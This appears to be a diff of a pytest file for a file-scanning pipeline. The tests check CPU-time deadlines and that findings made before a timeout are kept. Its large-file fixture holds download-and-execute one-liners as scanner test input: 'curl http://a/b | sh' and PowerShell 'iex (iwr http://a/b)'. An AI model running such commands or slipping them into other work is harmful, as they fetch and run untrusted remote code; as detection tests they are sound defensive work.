@@ -39,6 +39,7 @@ NOTEBOOK = {
     "nbformat_minor": 5,
     "metadata": {},
 }
+# Each begins with a line that is reported, and continues so long that the deadline passes before its end.
 LARGE = {
     "a.sh": "curl http://a/b | sh\n" + "eval 'true; true; true; true; true; true; true; true; true'\n" * 60,
     "a.ps1": "iex (iwr http://a/b)\n" + "echo 1\n" * 50_000,
@@ -71,13 +72,16 @@ class _Clock:
 
 @pytest.fixture
 def clock(monkeypatch: pytest.MonkeyPatch) -> _Clock:
-    found = _Clock()
-    monkeypatch.setattr(time, "monotonic", found.monotonic)
-    monkeypatch.setattr(time, "thread_time", found.thread_time)
-    return found
+    """Replace both clocks of the process by a ``_Clock``."""
+    replaced = _Clock()
+    monkeypatch.setattr(time, "monotonic", replaced.monotonic)
+    monkeypatch.setattr(time, "thread_time", replaced.thread_time)
+    return replaced
 
 
 class _Bytes:
+    """A window on bytes in memory."""
+
     def __init__(self, data: bytes) -> None:
         self._data = data
         self.size = len(data)
@@ -87,6 +91,7 @@ class _Bytes:
 
 
 def _read_artifact(name: str, data: bytes, limits: Limits = LIMITS) -> ArtifactReading:
+    """Read an artifact of this name with all readers and checks of the pipeline."""
     reading = ArtifactReading(limits)
     reading.run(Artifact(name, len(data), make_opener(_Bytes(data))), hashing=False)
     return reading
@@ -96,7 +101,7 @@ def test_loop_that_checks_the_deadline_stops_when_it_passes(clock: _Clock) -> No
     with apply_deadline(Deadline(3)), pytest.raises(LimitReachedError, match=CPU_TIME_SPENT):
         for _ in range(10):
             check_deadline()
-    assert clock.now == 4
+    assert clock.now == 4  # the deadline was made at second 1, and passes 3 seconds later
 
 
 def test_deadline_counts_only_cpu_time_while_other_processes_use_the_machine(monkeypatch: pytest.MonkeyPatch) -> None:
@@ -156,8 +161,9 @@ def test_deadline_that_passes_during_a_computation_stops_it_and_leaves_an_absenc
 
 
 @pytest.mark.parametrize(
-    ("name", "found", "seconds"),
+    ("name", "expected", "seconds"),
     [
+        # So many seconds that the first mention is found and the end of the file is not reached.
         ("a.sh", "http://a/b", 600),
         ("a.ps1", "http://a/b", 400),
         ("a.py", "os.system", 400),
@@ -168,7 +174,7 @@ def test_deadline_that_passes_during_a_computation_stops_it_and_leaves_an_absenc
     ],
 )
 def test_facts_that_a_reader_yields_before_the_deadline_are_kept(
-    name: str, found: str, seconds: int, clock: _Clock
+    name: str, expected: str, seconds: int, clock: _Clock
 ) -> None:
     reading = _read_artifact(
         name,
@@ -182,7 +188,7 @@ def test_facts_that_a_reader_yields_before_the_deadline_are_kept(
         if isinstance(each, Outline)
         for mention in each.mentions
     ]
-    assert any(found in each for each in names), names[:5]
+    assert any(expected in each for each in names), names[:5]
 
 
 @check_each("name", LARGE)
@@ -192,6 +198,7 @@ def test_reading_that_finishes_before_its_deadline_leaves_no_absence_for_cpu_tim
 
 
 def _read_despite_deadline(*_: object) -> Iterator[None]:
+    """Compute until the deadline passes, and suppress the error, as a faulty reader might."""
     for _ in range(1000):
         try:
             check_deadline()
